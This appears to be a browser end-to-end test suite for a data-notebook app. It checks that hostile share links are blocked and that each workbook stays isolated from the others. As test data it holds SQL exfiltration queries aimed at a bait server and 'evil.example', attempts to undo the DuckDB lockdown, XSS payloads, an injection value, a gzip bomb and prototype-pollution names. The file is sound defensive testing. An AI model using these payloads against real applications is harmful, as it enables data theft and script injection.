// Links made by someone hostile. Each is opened in Chromium (and, where it has cells, run); none
// may run script, send a request off the page's origin (the harness fails any test where one
// leaves), save or attach anything, or leave a blank page.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { MAX_CELLS, MAX_JSON_DEPTH } from '../../src/engine/json-limits.ts';
import { encodeShareHash, packShareHash } from '../../src/engine/share-link.ts';
import { emptyWorkbook, type Cell, type SourceSpec, type Workbook } from '../../src/engine/workbook.ts';
import {
  SLOW, addNamedSqlCell, fixtureDir, gotoApp, gridRows, loadFiles, savedWorkbook, sourceCard, sqlCell, statusOf, useBrowser, waitForSource,
  waitForStatus,
} from './harness.ts';

const session = useBrowser();
let bait: Server;
let baitURL = '';
const hits: string[] = [];

beforeAll(async () => {
  // A server on another origin: if anything got past the CSP and DuckDB's lockdown, it would land here.
  bait = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(200, { 'Content-Type': 'text/csv', 'Access-Control-Allow-Origin': '*' }).end('secret\n42\n');
  });
  await new Promise<void>((ok) => bait.listen(0, '127.0.0.1', () => ok()));
  baitURL = `http://127.0.0.1:${(bait.address() as AddressInfo).port}`;
});
afterAll(() => new Promise<void>((ok) => bait.close(() => ok())));

const CUSTOMERS: SourceSpec = {
  name: 'retail_customers', file: 'retail-customers.csv', origin: 'sample', format: 'csv', columnTypes: {}, schema: [],
};

function workbook(cells: Cell[], sources: SourceSpec[] = [CUSTOMERS], title = 'Hostile'): Workbook {
  return { ...emptyWorkbook(title), sources, cells };
}

function sql(name: string, text: string): Cell {
  return { id: name, kind: 'sql', name, sql: text };
}

interface Watched {
  page: Page;
  dialogs: string[];
  /** Every URL the page's main frame went to. */
  navigations: string[];
}

/**
 * Opens `hash` in a fresh browser, recording any alert/confirm/prompt and every CSP violation:
 * a payload that reached the DOM as markup would show up as one or the other.
 */
async function openHostile(hash: string): Promise<Watched> {
  const { page } = await session.open({ noGoto: true });
  const dialogs: string[] = [];
  const navigations: string[] = [];
  page.on('framenavigated', (f) => {
    if (f === page.mainFrame()) navigations.push(f.url());
  });
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.defineProperty(window, '__violations', { value: seen });
    // A blocked handler on an element of the live page is reported at that element. DOMPurify's
    // parsing into a detached DOMParser document is reported at the document: no payload is live there.
    document.addEventListener('securitypolicyviolation', (e) => {
      if (e.target instanceof Element) seen.push(`${e.violatedDirective}: ${e.target.outerHTML.slice(0, 120)}`);
    });
  });
  await gotoApp(page, `${inject('baseURL')}${hash}`);
  return { page, dialogs, navigations };
}

/** No navigation took the page off the app's origin (a link, a form, a refresh header). */
function expectStayedOnOrigin({ page, navigations }: Watched): void {
  const origin = new URL(inject('baseURL')).origin;
  expect(navigations.length).toBeGreaterThan(0);
  expect([...navigations, page.url()].filter((u) => new URL(u).origin !== origin)).toEqual([]);
}

/** True when a click at the centre of `target` would reach it: nothing covers it, it is on screen. */
async function clickReaches(target: Locator): Promise<boolean> {
  await target.scrollIntoViewIfNeeded();
  return target.evaluate((el) => {
    const r = el.getBoundingClientRect();
    const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
    return r.width > 0 && r.height > 0 && hit !== null && el.contains(hit);
  });
}

function runAllButton(page: Page): Locator {
  return page.getByRole('button', { name: 'Run all' });
}

function reviewBanner(page: Page): Locator {
  return page.getByRole('status').filter({ hasText: 'Shared workbook: review it, then press Run all.' });
}

/** The link opened for review: its banner and Run all are there, and a click on either reaches it. */
async function expectReviewMode(page: Page): Promise<void> {
  await reviewBanner(page).waitFor({ timeout: SLOW });
  expect(await clickReaches(reviewBanner(page))).toBe(true);
  expect(await clickReaches(runAllButton(page))).toBe(true);
}

/** The link was refused: its message and Run all are reachable by a click, and there is no review banner. */
async function expectRefusedWith(page: Page, message: RegExp | string): Promise<void> {
  await expect.poll(() => pageNotice(page).innerText(), { timeout: SLOW }).toMatch(message);
  expect(await clickReaches(pageNotice(page))).toBe(true);
  expect(await clickReaches(runAllButton(page))).toBe(true);
  expect(await reviewBanner(page).count()).toBe(0);
}

/** What a payload could have left: a dialog, the flag it sets, CSP violations in the page, handlers or scripts in the markup. */
async function scriptReport({ page, dialogs }: Watched) {
  const seen = await page.evaluate(() => {
    const handlers = [...document.querySelectorAll('body *')].flatMap((el) =>
      [...el.attributes].filter((a) => a.name.startsWith('on') || /^\s*javascript:/i.test(a.value)).map((a) => `${el.tagName} ${a.name}`),
    );
    return {
      pwned: Reflect.get(window, '__pwned') ?? null,
      violations: Reflect.get(window, '__violations'),
      handlers,
      scripts: document.querySelectorAll('body script, iframe, object, embed').length,
    };
  });
  return { dialogs: [...dialogs], ...seen };
}

async function expectNoScriptRan(watched: Watched): Promise<void> {
  expect(await scriptReport(watched)).toEqual({ dialogs: [], pwned: null, violations: [], handlers: [], scripts: 0 });
}

async function runAll(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Run all' }).click();
}

function pageNotice(page: Page) {
  return page.getByRole('alert').first();
}

/** The start page is there and works: the link left the app usable. */
async function expectUsableStartPage(page: Page): Promise<void> {
  const start = page.getByRole('region', { name: 'Segbook' });
  await start.waitFor();
  expect(await start.getByRole('button', { name: 'Open sample data' }).isEnabled()).toBe(true);
  expect(await savedWorkbook(page)).toBeNull();
}

describe('hostile links: SQL that tries to send data out or unlock DuckDB', () => {
  it('runs every cell into an error, sends nothing, writes nothing and keeps the lockdown', async () => {
    const B = baitURL;
    const secret = "(SELECT string_agg(customer_id::VARCHAR, ',') FROM retail_customers)";
    const hostile: Array<[string, string]> = [
      ['leak_read_csv', `SELECT * FROM read_csv('${B}/leak.csv?d=' || ${secret})`],
      ['leak_evil_example', `SELECT * FROM read_csv('https://evil.example/?' || ${secret})`],
      ['leak_read_parquet', `SELECT * FROM read_parquet('${B}/leak.parquet')`],
      ['leak_from_url', `SELECT * FROM '${B}/customers.csv'`],
      ['leak_read_text', `SELECT * FROM read_text('${B}/leak.txt')`],
      ['leak_in_subquery', `SELECT (SELECT count(*) FROM read_csv_auto('${B}/sub.csv')) AS n`],
      ['attach_remote', `ATTACH '${B}/remote.duckdb' AS remote`],
      ['install_httpfs', 'INSTALL httpfs'],
      ['load_httpfs', 'LOAD httpfs'],
      ['copy_to_url', `COPY (SELECT * FROM retail_customers) TO '${B}/out.csv'`],
      ['copy_to_uploads', "COPY (SELECT * FROM retail_customers) TO '/uploads/x.csv'"],
      ['second_statement', `SELECT 1 AS one; COPY retail_customers TO '${B}/two.csv'`],
      ['set_external', 'SET enable_external_access=true'],
      ['set_directories', "SET allowed_directories=['/']"],
      ['reset_external', 'RESET enable_external_access'],
      ['reset_lock', 'SET lock_configuration=false'],
      ['read_written_file', "SELECT * FROM read_csv('/uploads/x.csv')"],
    ];
    const check = sql('settings', "SELECT current_setting('enable_external_access') AS external, current_setting('lock_configuration') AS locked, current_setting('allowed_directories') AS dirs");
    const rfm: Cell = {
      id: 'rfm_leak', kind: 'rfm', name: 'rfm_leak', input: 'retail_customers', customer: 'customer_id', date: 'signup_date',
      amount: `(SELECT count(*) FROM read_csv('${B}/rfm.csv'))`, invoice: null, exclude: `customer_id IN (SELECT * FROM read_csv('${B}/x.csv'))`,
      referenceDate: null, bins: { kind: 'quintile' }, segmentMap: [],
    };
    const watched = await openHostile(await encodeShareHash({ workbook: workbook([...hostile.map(([n, s]) => sql(n, s)), rfm, check]), data: {} }));
    const { page } = watched;
    await page.getByRole('status').filter({ hasText: 'Shared workbook: review it, then press Run all.' }).waitFor({ timeout: SLOW });
    await waitForSource(page, 'retail_customers', 2000);
    // Review mode: none of it has run.
    for (const [name] of hostile) expect(await statusOf(sqlCell(page, name))).toBe('idle');

    await runAll(page);
    for (const [name] of hostile) {
      const cell = sqlCell(page, name);
      await waitForStatus(cell, 'error', 60_000).catch(async (e: Error) => {
        throw new Error(`${name}: ${e.message}`);
      });
      expect(`${name}: ${(await cell.getByRole('alert').innerText()).trim().length > 10}`).toBe(`${name}: true`);
    }
    await waitForStatus(sqlCell(page, 'rfm_leak'), 'error', 60_000);
    await waitForStatus(sqlCell(page, 'settings'), 'done');
    await expect.poll(() => gridRows(sqlCell(page, 'settings'))).toEqual([['false', 'true', '["/uploads/"]']]);
    expect(await sqlCell(page, 'read_written_file').getByRole('alert').innerText()).toMatch(/No files found|does not exist|x\.csv/);
    await page.waitForTimeout(500);
    expect(hits).toEqual([]);
    await expectNoScriptRan(watched);
  });
});

describe('hostile links: script in text', () => {
  const flag = (where: string) => `window.__pwned='${where}'`;
  const img = (where: string) => `<img src=x onerror="${flag(where)}">`;

  it('shows Markdown, names, persona text, column and file names as text, and runs none of it', async () => {
    const notes = [
      `<script>${flag('script')}</script>`,
      img('markdown'),
      `[click me](javascript:${flag('md-link')})`,
      `<a href="javascript:${flag('a')}">a link</a> <iframe src="javascript:${flag('iframe')}"></iframe>`,
      `<svg onload="${flag('svg')}"></svg><details open ontoggle="${flag('toggle')}"><summary>x</summary></details>`,
      `<form action="javascript:${flag('form')}"><input autofocus onfocus="${flag('focus')}"></form>`,
    ];
    const header = `id,"${img('header').replaceAll('"', '""')}",segment`;
    const sources: SourceSpec[] = [
      CUSTOMERS,
      {
        name: 'evil_file', file: `${img('file')}.csv`, origin: 'file', format: 'csv', columnTypes: {},
        schema: [{ name: `<script>${flag('column')}</script>`, type: 'VARCHAR' }],
      },
      { name: 'people', file: 'people.csv', origin: 'file', format: 'csv', columnTypes: {}, schema: [] },
    ];
    const cells: Cell[] = [
      ...notes.map((text, i): Cell => ({ id: `note${i}`, kind: 'markdown', text })),
      sql('labelled', `SELECT id, segment AS "${img('alias').replaceAll('"', '""')}" FROM people -- </script><script>${flag('sql')}</script>`),
      {
        id: 'profile', kind: 'profile', name: 'profile', input: 'people', segmentColumn: 'segment', numeric: ['id'], categorical: [],
        valueColumn: null, playbook: [], targets: ['a'], churn: null, attributes: [], previous: null, explainColumns: [],
        personas: { a: { name: img('persona-name'), description: `<script>${flag('persona')}</script>`, actions: [img('action')] } },
      },
      {
        id: 'rules', kind: 'rules', name: 'rules', input: 'people', elseSegment: img('else'),
        segments: [{ name: img('segment'), match: 'all', conditions: [{ column: 'id', op: '>', value: `1) OR (${flag('value')}` }] }],
      },
      { id: 'chart', kind: 'chart', input: 'labelled', mark: 'bar', x: 'id', y: null, color: null, facet: null, title: img('chart') },
    ];
    const data = { people: `${header}\n1,x,a\n2,y,b\n3,z,a\n` };
    const watched = await openHostile(await encodeShareHash({ workbook: workbook(cells, sources, img('title')), data }));
    const { page } = watched;
    await page.getByRole('status').filter({ hasText: 'Shared workbook: review it, then press Run all.' }).waitFor({ timeout: SLOW });
    await waitForSource(page, 'people', 3);
    // Names are shown as the text they are.
    expect(await sourceCard(page, 'evil_file').innerText()).toContain(`Attach ${img('file')}.csv (expects: <script>${flag('column')}</script> VARCHAR)`);
    expect(await sourceCard(page, 'people').getByRole('region', { name: 'Schema of people', includeHidden: true }).textContent()).toContain(img('header'));
    expect(await page.getByRole('textbox', { name: 'Workbook title' }).inputValue()).toBe(img('title'));
    const link = page.getByRole('link', { name: 'click me' });
    if (await link.count()) await link.click();
    await runAll(page);
    await waitForStatus(sqlCell(page, 'labelled'), 'done');
    await waitForStatus(sqlCell(page, 'profile'), 'done', 60_000);
    await waitForStatus(sqlCell(page, 'rules'), 'error', 60_000);
    await page.waitForTimeout(1000);
    const text = await page.locator('body').innerText();
    // The rule's value, built to break out of SQL, is refused as a value; its name is shown as text.
    expect(await sqlCell(page, 'rules').getByRole('alert').innerText()).toContain(`but "1) OR (${flag('value')}" is not a number`);
    for (const where of ['persona-name', 'segment', 'chart']) expect(`${where}: ${text.includes(img(where))}`).toBe(`${where}: true`);
    expect(text).toContain(img('alias'));
    await expectNoScriptRan(watched);
  });

  it('has a detector that does catch a payload reaching the page (so the checks above can fail)', async () => {
    const watched = await openHostile('');
    await watched.page.evaluate(() => {
      const div = document.createElement('div');
      div.innerHTML = '<img src="x" onerror="window.__pwned=1">';
      document.body.append(div);
    });
    await watched.page.waitForTimeout(500);
    expect(await scriptReport(watched)).toEqual({
      dialogs: [], pwned: null, violations: ['script-src-attr: <img src="x" onerror="window.__pwned=1">'], handlers: ['IMG onerror'], scripts: 0,
    });
  });

  it('refuses a link whose cell names are not table names, naming the problem', async () => {
    for (const name of [img('name'), 'x"; DROP TABLE retail_customers; --']) {
      const watched = await openHostile(await packShareHash(JSON.stringify(workbook([sql(name, 'SELECT 1')])), 1));
      await expect.poll(() => pageNotice(watched.page).innerText()).toContain(`cell 1 has an invalid table name ${JSON.stringify(name)}`);
      await expectUsableStartPage(watched.page);
      await expectNoScriptRan(watched);
    }
  });
});

describe('hostile links: damaged, foreign and oversized links', () => {
  async function good(): Promise<string> {
    return encodeShareHash({ workbook: workbook([sql('one', 'SELECT 1 AS x')]), data: {} });
  }
  const cases: Array<[string, () => Promise<string>, RegExp]> = [
    ['an empty link', async () => '#wb=', /no format version/],
    ['a link with nothing after its version', async () => '#wb=1.', /is empty: nothing follows #wb=1\./],
    ['a link that is not base64', async () => '#wb=1.<script>alert(1)</script>', /damaged: it holds .* at character 1/],
    ['a truncated link', async () => (await good()).slice(0, 60), /cut short/],
    ['a corrupted link', async () => {
      const g = await good();
      return g.slice(0, 30) + [...g.slice(30, 60)].reverse().join('') + g.slice(60);
    }, /damaged/],
    ['gzip that holds no workbook', () => packShareHash('<html>hello</html>', 1), /not a workbook/],
    ['a link from a future version', async () => '#wb=7.' + (await good()).slice(6), /made by a newer Segbook \(format 7\); this one reads up to format 1\. Update Segbook/],
    ['a gzip bomb', () => packShareHash(`{"format":"segbook-workbook","version":1,"title":"${'a'.repeat(20 * 1024 * 1024)}"}`, 1), /unpacks to more than 5 MB/],
  ];

  for (const [label, make, message] of cases) {
    it(`refuses ${label} with a clear message and a working page`, async () => {
      const watched = await openHostile(await make());
      await expect.poll(() => pageNotice(watched.page).innerText(), { timeout: 10_000 }).toMatch(message);
      await expectUsableStartPage(watched.page);
      await expectNoScriptRan(watched);
    });
  }

  it('refuses a 10 MB link with a message, and the page keeps answering', async () => {
    const watched = await openHostile('');
    const { page } = watched;
    await page.getByRole('region', { name: 'Segbook' }).waitFor();
    // Browsers refuse to navigate to a URL this long, but a page can set its own hash to one.
    await page.evaluate(() => (location.hash = 'wb=1.' + 'A'.repeat(10 * 1024 * 1024)));
    await expectRefusedWith(page, /This link is 10,485,766 characters long; Segbook opens links up to 2,097,152/);
    // The page still answers: a task queued now runs, and the start page works.
    expect(await page.evaluate(() => new Promise((ok) => setTimeout(() => ok('answered'), 0)))).toBe('answered');
    await expectUsableStartPage(page);
    await page.getByRole('region', { name: 'Segbook' }).getByRole('button', { name: 'Open sample data' }).click();
    await waitForSource(page, 'retail_customers', 2000);
    await expectNoScriptRan(watched);
    expectStayedOnOrigin(watched);
  });
});

describe('hostile links that would break the page', () => {
  const many = (n: number) => Array.from({ length: n }, (_, i) => sql(`t${i}`, `SELECT ${i} AS n`));

  it(`refuses a link of 10,000 SQL cells with a message naming the ${MAX_CELLS}-cell limit, and the page keeps working`, async () => {
    const watched = await openHostile(await encodeShareHash({ workbook: workbook(many(10_000), []), data: {} }));
    const { page } = watched;
    await expectRefusedWith(page, `has 10,000 cells; Segbook opens workbooks of up to ${MAX_CELLS} cells. Split it into smaller workbooks.`);
    expect(await page.evaluate(() => new Promise((ok) => setTimeout(() => ok('answered'), 0)))).toBe('answered');
    await expectUsableStartPage(page);
    await expectNoScriptRan(watched);
    expectStayedOnOrigin(watched);
  });

  it(`opens a link of ${MAX_CELLS} SQL cells for review, drawing them a few at a time, and runs a cell when asked`, async () => {
    const watched = await openHostile(await encodeShareHash({ workbook: workbook(many(MAX_CELLS), []), data: {} }));
    const { page } = watched;
    await expectReviewMode(page);
    // Every cell arrives, and none has run.
    await expect.poll(() => page.locator('article.cell').count(), { timeout: SLOW }).toBe(MAX_CELLS);
    expect(await statusOf(sqlCell(page, `t${MAX_CELLS - 1}`))).toBe('idle');
    expect(await page.locator('[data-status]:not([data-status="idle"])').count()).toBe(0);
    await expectReviewMode(page);
    // The last cell's own Run button works (Run all of 500 cells would take minutes on a busy machine).
    const last = sqlCell(page, `t${MAX_CELLS - 1}`);
    await last.getByRole('button', { name: `Run t${MAX_CELLS - 1}` }).click();
    await waitForStatus(last, 'done', 60_000);
    await expect.poll(() => gridRows(last)).toEqual([[String(MAX_CELLS - 1)]]);
    await expectNoScriptRan(watched);
    expectStayedOnOrigin(watched);
  });

  it('refuses JSON nested 100,000 deep in a rule value, saying so plainly instead of overflowing the stack', async () => {
    const rules: Cell = {
      id: 'rules', kind: 'rules', name: 'rules', input: 'retail_customers', elseSegment: 'rest',
      segments: [{ name: 's', match: 'all', conditions: [{ column: 'age', op: 'between', value: '1', value2: '@@' }] }],
    };
    const deep = '['.repeat(100_000) + ']'.repeat(100_000);
    const watched = await openHostile(await packShareHash(JSON.stringify(workbook([rules])).replace('"@@"', deep), 1));
    const { page } = watched;
    await expectRefusedWith(page, `This share link nests lists or objects more than ${MAX_JSON_DEPTH} levels deep, which no Segbook workbook does; it was not opened.`);
    expect(await pageNotice(page).innerText()).not.toMatch(/call stack/i);
    await expectUsableStartPage(page);
    await expectNoScriptRan(watched);
    expectStayedOnOrigin(watched);
  });

  it('names a cell kind "constructor" as unknown', async () => {
    const watched = await openHostile(await packShareHash(JSON.stringify(workbook([{ ...sql('a', 'SELECT 1'), kind: 'constructor' } as unknown as Cell])), 1));
    const { page } = watched;
    await expectRefusedWith(page, 'cell 1 has an unknown kind "constructor"; open it in the Segbook that made it. The link cannot be opened.');
    expect(await pageNotice(page).innerText()).not.toContain('is not valid JSON');
    await expectUsableStartPage(page);
    await expectNoScriptRan(watched);
    expectStayedOnOrigin(watched);
  });

  it('opens cells, sources, rule names and personas called __proto__ or constructor as ordinary names, and runs them', async () => {
    const sources: SourceSpec[] = ['constructor', '__proto__'].map((name) => ({
      name, file: `${name}.csv`, origin: 'file', format: 'csv', columnTypes: {}, schema: [{ name: 'id', type: 'BIGINT' }],
    }));
    const cells: Cell[] = [
      { id: '__proto__', kind: 'sql', name: 'proto_cell', sql: 'SELECT count(*) AS n FROM "constructor"' },
      { id: 'constructor', kind: 'sql', name: 'tostring', sql: 'SELECT * FROM proto_cell' },
      { id: 'toString', kind: 'sql', name: 'reads_missing', sql: 'SELECT * FROM "__proto__"' },
      {
        id: 'hasOwnProperty', kind: 'rules', name: 'ruled', input: 'constructor', elseSegment: '__proto__',
        segments: [{ name: 'constructor', match: 'all', conditions: [{ column: 'id', op: '>', value: '1' }] }],
      },
      {
        id: 'valueOf', kind: 'profile', name: 'profiled', input: 'ruled', segmentColumn: 'segment', numeric: ['id'], categorical: [],
        valueColumn: null, playbook: [], targets: [], churn: null, attributes: [], previous: null, explainColumns: [],
        personas: { constructor: { name: 'Builders' }, toString: { name: 'Talkers' } },
      },
    ];
    const watched = await openHostile(await encodeShareHash({ workbook: workbook(cells, sources), data: { constructor: 'id\n1\n2\n3\n' } }));
    const { page } = watched;
    await expectReviewMode(page);
    await waitForSource(page, 'constructor', 3);
    // The source without data in the link asks for its file; it is not shown as attached.
    expect(await sourceCard(page, '__proto__').innerText()).toContain('Attach __proto__.csv');
    for (const name of ['proto_cell', 'tostring', 'reads_missing', 'ruled', 'profiled']) expect(await statusOf(sqlCell(page, name))).toBe('idle');
    await runAllButton(page).click();
    await waitForStatus(sqlCell(page, 'tostring'), 'done');
    await expect.poll(() => gridRows(sqlCell(page, 'tostring'))).toEqual([['3']]);
    await waitForStatus(sqlCell(page, 'reads_missing'), 'error');
    await waitForStatus(sqlCell(page, 'profiled'), 'done', 60_000);
    const profile = await sqlCell(page, 'profiled').innerText();
    expect(profile).toContain('Builders');
    expect(profile).toContain('__proto__');
    await expectNoScriptRan(watched);
    expectStayedOnOrigin(watched);
  });
});

describe('hostile links: workbooks are isolated from each other', () => {
  const SECRET = 'ann@private.example';
  // A stranger's link that tries every way to reach the last workbook's customer file and tables.
  const snoop = workbook(
    [
      // First, and not counting itself: each cell that runs makes a table, which the catalog would list.
      // The warm-up's own tables and file come and go while a freshly loaded page starts DuckDB.
      sql('by_catalog', "SELECT coalesce(string_agg(table_name, ','), 'none') AS tables FROM duckdb_tables() WHERE table_name <> 'by_catalog' AND NOT starts_with(table_name, '__segbook_warmup')"),
      sql('by_path', "SELECT * FROM read_csv('/uploads/customers.csv')"),
      sql('by_glob', "SELECT coalesce(string_agg(file, ','), 'none') AS files FROM glob('/uploads/*') WHERE file <> '/uploads/__segbook_warmup.csv'"),
      sql('by_table', 'SELECT * FROM customers'),
      sql('by_user_table', 'SELECT * FROM vip'),
    ],
    [],
    'Snoop',
  );
  const SNOOP_CELLS = ['by_path', 'by_glob', 'by_table', 'by_user_table', 'by_catalog'];

  /** The user's own workbook: their customer file, and a table made from it by a cell that has run. */
  async function openCustomers(): Promise<Watched> {
    const fx = await fixtureDir();
    const watched = await openHostile('');
    const { page } = watched;
    await loadFiles(page, [await fx.write('customers.csv', `id,email,spend\n1,${SECRET},120\n2,bob@private.example,80\n`)]);
    await waitForSource(page, 'customers', 2);
    const vip = await addNamedSqlCell(page, 'vip', 'SELECT email FROM customers WHERE spend > 100');
    await vip.getByRole('button', { name: 'Run vip' }).click();
    await waitForStatus(vip, 'done');
    await expect.poll(() => gridRows(vip)).toEqual([[SECRET]]);
    // Before the switch, the file is there to be read by path: the check below would see it.
    await addNamedSqlCell(page, 'probe', "SELECT count(*) AS n FROM read_csv('/uploads/customers.csv')");
    await sqlCell(page, 'probe').getByRole('button', { name: 'Run probe' }).click();
    await waitForStatus(sqlCell(page, 'probe'), 'done');
    await fx.remove();
    return watched;
  }

  async function expectSnoopFindsNothing(watched: Watched): Promise<void> {
    const { page } = watched;
    await expectReviewMode(page);
    await page.getByRole('textbox', { name: 'Workbook title' }).waitFor();
    expect(await page.getByRole('textbox', { name: 'Workbook title' }).inputValue()).toBe('Snoop');
    // Nothing ran by itself.
    for (const name of SNOOP_CELLS) expect(await statusOf(sqlCell(page, name))).toBe('idle');
    await runAllButton(page).click();
    for (const name of ['by_path', 'by_table', 'by_user_table']) await waitForStatus(sqlCell(page, name), 'error');
    await waitForStatus(sqlCell(page, 'by_glob'), 'done');
    await waitForStatus(sqlCell(page, 'by_catalog'), 'done');
    await expect.poll(() => gridRows(sqlCell(page, 'by_glob'))).toEqual([['none']]);
    await expect.poll(() => gridRows(sqlCell(page, 'by_catalog'))).toEqual([['none']]);
    expect(await page.locator('body').innerText()).not.toContain(SECRET);
    await expectNoScriptRan(watched);
    expectStayedOnOrigin(watched);
  }

  it('a second link opened in the same tab (the hash changes) reads none of the first workbook\'s files or tables', async () => {
    const watched = await openCustomers();
    const hash = await encodeShareHash({ workbook: snoop, data: {} });
    await watched.page.evaluate((h) => (location.hash = h), hash);
    await expectSnoopFindsNothing(watched);
  });

  it('a second link opened by a full navigation reads none of the first workbook\'s files or tables', async () => {
    const watched = await openCustomers();
    const hash = await encodeShareHash({ workbook: snoop, data: {} });
    // A different query string makes this a new page load, not a hash change.
    await gotoApp(watched.page, `${inject('baseURL')}?from=mail${hash}`);
    await expectSnoopFindsNothing(watched);
  });
});
